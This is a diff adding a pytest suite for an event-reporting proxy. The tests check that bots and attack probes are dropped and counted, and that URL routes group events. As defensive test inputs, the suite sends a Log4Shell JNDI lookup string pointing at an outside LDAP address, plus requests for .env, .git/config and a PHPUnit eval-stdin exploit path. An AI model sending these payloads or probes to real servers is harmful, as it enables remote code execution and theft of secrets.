@@ -1,0 +1,105 @@
+"""Bots and probes are dropped and counted, people arrive; routes group what templates say."""
+import json
+
+import pytest
+
+from event_checks import check_event
+from receiver import Receiver
+from servers import wait_for
+
+BROWSER = ("Mozilla/5.0 (Linux; Android 14; CUBOT X90) AppleWebKit/537.36 (KHTML, like Gecko) "
+           "Chrome/140.0.0.0 Mobile Safari/537.36")
+CRAWLER = "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)"
+
+RULES = """
+local mayday, bots = require "mayday", require "mayday.bots"
+mayday.before_send(function(event, hint)
+  local bot, class = bots.is_bot(event.request.headers["User-Agent"], { except = { "monitor" } })
+  if bot then return nil, "bot_" .. class end
+  local probe, why = bots.is_probe(event)
+  if probe then return nil, "probe: " .. why end
+  return event
+end)
+"""
+
+
+@pytest.fixture
+def receiver():
+    instance = Receiver()
+    yield instance
+    instance.stop()
+
+
+def start(server, upstream, rules):
+    server.rules(rules)
+    server.place("/", upstream=upstream.url)
+    server.start()
+    server.wait_agent()
+
+
+def agents(events):
+    return [dict(event["request"]["headers"])["User-Agent"] for event in events]
+
+
+def test_only_people_and_calls_arrive(server, up, receiver):
+    server.directive("dsn", receiver.dsn)
+    start(server, up.dead, RULES)
+    for agent in (CRAWLER, "masscan/1.3", "HeadlessChrome/140"):
+        server.get("/shop/x", {"User-Agent": agent})
+    kept = sorted([BROWSER, "python-requests/2.32.3", "UptimeRobot/2.0",
+                   "Stripe/1.0 (+https://stripe.com/docs/webhooks)"])
+    for agent in kept:
+        server.get("/shop/x", {"User-Agent": agent})
+    wait_for(lambda: len(receiver.items("event")) == len(kept), 10, lambda: receiver.items("event"))
+    wait_for(lambda: server.counts()["filtered"] == {
+        "before_send:bot_crawler": 1, "before_send:bot_scanner": 1,
+        "before_send:bot_headless": 1}, 5, server.counts)
+    assert sorted(agents(receiver.items("event"))) == kept
+    events = server.events()
+    assert sorted(agents(events)) == kept
+    for event in events:
+        check_event(event)
+
+
+def test_probes_are_dropped_by_what_they_ask_for(server, up):
+    start(server, up.dead, RULES)
+    for path in ("/.env", "/shop/%2egit/config", "/wp-login.php",
+                 "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php"):
+        server.get(path, {"User-Agent": BROWSER})
+    server.get("/shop/x", {"User-Agent": BROWSER, "X-Api-Version": "${jndi:ldap://203.0.113.1/a}"})
+    server.get("/shop/environment", {"User-Agent": BROWSER})
+    event = server.event()
+    assert event["request"]["url"].endswith("/shop/environment")
+    wait_for(lambda: server.counts()["filtered"] == {
+        "before_send:probe: secret file": 2, "before_send:probe: wordpress": 1,
+        "before_send:probe: shell": 1, "before_send:probe: log4shell": 1}, 5, server.counts)
+
+
+def issues(server):
+    rows = [json.loads(line) for line in server.cli("events", "--json").stdout.splitlines()]
+    return [row["issue"] for row in reversed(rows)]
+
+
+def test_templates_name_and_group(server, up):
+    start(server, up.closes, """
+local mayday, routes = require "mayday", require "mayday.routes"
+routes.template("/users/me", "/users/{name}")
+mayday.before_send(function(event, hint)
+  event.tags.seen = event.transaction
+  return event
+end)
+""")
+    for path in ("/users/jane", "/users/joe", "/users/me", "/orders/1234"):
+        server.get(path)
+    events = server.events(4)
+    transactions = [event["transaction"] for event in events]
+    assert transactions == ["GET /users/{name}", "GET /users/{name}", "GET /users/me",
+                            "GET /orders/*"]
+    assert [event["tags"]["seen"] for event in events] == transactions
+    assert [event["transaction_info"]["source"] for event in events] == [
+        "route", "route", "route", "sanitized"]
+    jane, joe, *others = issues(server)
+    assert jane == joe
+    assert len({jane, *others}) == 3
+    for event in events:
+        check_event(event)
